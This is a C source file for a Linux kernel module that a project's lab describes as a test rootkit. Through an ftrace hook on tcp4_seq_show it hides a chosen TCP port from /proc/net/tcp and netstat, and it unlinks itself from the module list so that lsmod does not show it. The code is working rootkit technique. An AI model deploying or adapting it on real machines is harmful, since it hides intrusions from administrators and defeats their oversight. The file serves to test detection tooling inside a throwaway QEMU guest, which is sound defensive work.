// SPDX-License-Identifier: GPL-2.0
// A TEST rootkit for irsnap's kernel lab (tests/kernel-lab, docs/kernel-lab.md). It is built only
// against the lab's Debian kernel headers and loaded only inside the lab's throw-away QEMU guest.
//
// What it does, the way public kernel rootkits (Diamorphine-style socket hiders, Reptile) do it:
//   1. hooks tcp4_seq_show, the show function of /proc/net/tcp's seq_file, through ftrace: an
//      ftrace_ops with IPMODIFY on tcp4_seq_show redirects every call to ht_tcp4_seq_show, which
//      prints nothing for a socket whose local port is `port` and calls the real function for
//      every other row, so netstat (and anything else reading /proc/net/tcp) no longer shows it.
//      The sock_diag netlink dump (ss) and the BPF socket iterator do not go through
//      tcp4_seq_show and still list the socket;
//   2. unlinks itself from the kernel's module list (list_del of THIS_MODULE->list), so
//      /proc/modules and lsmod no longer name it (/sys/module/hide_tcp stays).
// It can never be unloaded (no exit function, and the module list no longer holds it): the lab
// powers the guest off instead.
//
// The hook itself is ../common/ftrace_redirect.h, shared with hide_pid.
#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/seq_file.h>
#include <net/inet_sock.h>
#include <net/sock.h>
#include <net/tcp_states.h>

#include "ftrace_redirect.h"

MODULE_LICENSE("GPL");  // ftrace and kprobe registration are GPL-only symbols
MODULE_DESCRIPTION("irsnap kernel lab: test rootkit hiding a TCP port from /proc/net/tcp");

static int port = -1;
module_param(port, int, 0);
MODULE_PARM_DESC(port, "the local TCP port whose /proc/net/tcp rows tcp4_seq_show skips");

typedef int (*seq_show_fn)(struct seq_file *, void *);
static seq_show_fn real_tcp4_seq_show;

// The local port of a /proc/net/tcp record, host order. v is a full socket (listening or
// connected), a timewait socket or a request socket; all three begin with struct sock_common.
// For a full socket this is ntohs(inet_sk(sk)->inet_sport); the other two have no inet_sock, and
// skc_num is their (host-order) local port as it is a full socket's.
static int local_port_of(void *v)
{
	struct sock *sk = v;

	if (sk->sk_state != TCP_TIME_WAIT && sk->sk_state != TCP_NEW_SYN_RECV)
		return ntohs(inet_sk(sk)->inet_sport);
	return sk->sk_num;
}

// Replaces tcp4_seq_show: a row of the hidden port prints nothing (seq_file then emits no line
// for it); the header (SEQ_START_TOKEN) and every other row go to the real function.
// The call of the real function must not be a tail call: a jmp would leave seq_read_iter as the
// caller ftrace sees (parent_ip), the thunk would not know the call as ours and would send it
// back here, forever. The barrier after the call keeps it a call from inside this module.
static int ht_tcp4_seq_show(struct seq_file *seq, void *v)
{
	int ret;

	if (v != SEQ_START_TOKEN && local_port_of(v) == port)
		return 0;
	ret = real_tcp4_seq_show(seq, v);
	barrier();
	return ret;
}

FTRACE_REDIRECT(ht_hook, ht_tcp4_seq_show);

static int __init hide_tcp_init(void)
{
	int err;

	if (port <= 0 || port > 65535)
		return -EINVAL;
	// tcp4_seq_show is static in net/ipv4/tcp_ipv4.c; kallsyms still names it (the kernel is
	// built with CONFIG_KALLSYMS_ALL) and, called only through seq_operations, it is never
	// inlined away.
	real_tcp4_seq_show = (seq_show_fn)ftrace_redirect_install(&ht_hook, "tcp4_seq_show", &err);
	if (!real_tcp4_seq_show)
		return err;
	// Printed before hiding, so the guest's console log shows what was loaded.
	pr_info("hide_tcp: hiding tcp port %d from /proc/net/tcp\n", port);
	list_del(&THIS_MODULE->list);
	return 0;
}

module_init(hide_tcp_init);
